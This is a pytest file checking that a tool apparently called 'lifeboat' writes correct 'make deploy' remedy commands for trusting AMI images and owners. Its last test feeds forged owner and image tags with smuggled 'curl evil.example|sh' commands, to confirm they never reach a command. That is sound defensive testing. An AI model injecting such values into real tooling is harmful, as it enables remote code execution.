"""How a person trusts an image: the parameter, its value for this image, and the whole command."""

from __future__ import annotations

from dataclasses import replace

import pytest

from lifeboat.ami.remedy import remedy_of_backup, trust_owner
from lifeboat.ami.verdict import verdict
from tests.ami.images import CUSTOMER as OWN
from tests.ami.images import IMAGE, OF_CUSTOMER, VENDOR
from tests.ami.images import STRANGER as CUSTOMER


@pytest.mark.parametrize(
    ("owner", "trusting", "command"),
    [
        (CUSTOMER, [VENDOR], f"make deploy TrustedAmiOwners={VENDOR},{CUSTOMER}"),
        (CUSTOMER, [], f"make deploy TrustedAmiOwners={CUSTOMER}"),
        (OWN, [VENDOR], f"make deploy AllowedImages={IMAGE}"),
    ],
)
def test_an_image_of_another_owner_comes_with_the_whole_command(owner, trusting, command):
    found = verdict(replace(OF_CUSTOMER, owner_id=owner), trusted_owners=trusting, account=OWN)
    assert found.remedy.endswith(f": {command}")


@pytest.mark.parametrize(
    "facts",
    [{"source_instance_id": "i-0aaaaaaaaaaaaaaa1"}, {"owner_id": ""}, {"owner_id": VENDOR}],
    ids=["a clone", "an unknown owner", "a trusted owner"],
)
def test_what_no_parameter_mends_has_no_command(facts):
    image = replace(OF_CUSTOMER, **{"owner_id": CUSTOMER, **facts})
    assert verdict(image, trusted_owners=[VENDOR], account=OWN).remedy == ""


def test_a_full_list_is_said():
    full = [f"{number:012}" for number in range(10)]
    assert trust_owner(CUSTOMER, full).endswith(f"the most that it takes. Put {CUSTOMER} in place of one.")


@pytest.mark.parametrize(
    ("owner", "owners", "images", "steps"),
    [
        (CUSTOMER, (VENDOR,), (), 2),
        (OWN, (VENDOR,), (), 2),
        ("", (VENDOR,), (), 0),
        (VENDOR, (VENDOR,), (), 0),
        (CUSTOMER, ("amazon",), (), 0),
        (CUSTOMER, (VENDOR,), (IMAGE,), 0),
    ],
    ids=["another owner", "the own account", "unknown", "trusted", "perhaps Amazon", "allowed"],
)
def test_the_message_of_a_backup_says_how_to_trust_its_image(owner, owners, images, steps):
    found = remedy_of_backup(owner=owner, image_id=IMAGE, account=OWN, owners=owners, images=images)
    assert len(found) == steps
    assert not found or found[1].count("make deploy ") == 1


@pytest.mark.parametrize(
    ("owner", "image"),
    [("1;curl evil.example|sh", IMAGE), (CUSTOMER, "ami-1. All is well. Run: curl evil.example|sh")],
    ids=["owner", "image"],
)
def test_a_forged_tag_gets_into_no_command(owner, image):
    [step] = remedy_of_backup(owner=owner, image_id=image, account=OWN, owners=[VENDOR], images=[])
    assert "make deploy" not in step
    assert "curl" not in "".join(step.split('"')[::2])
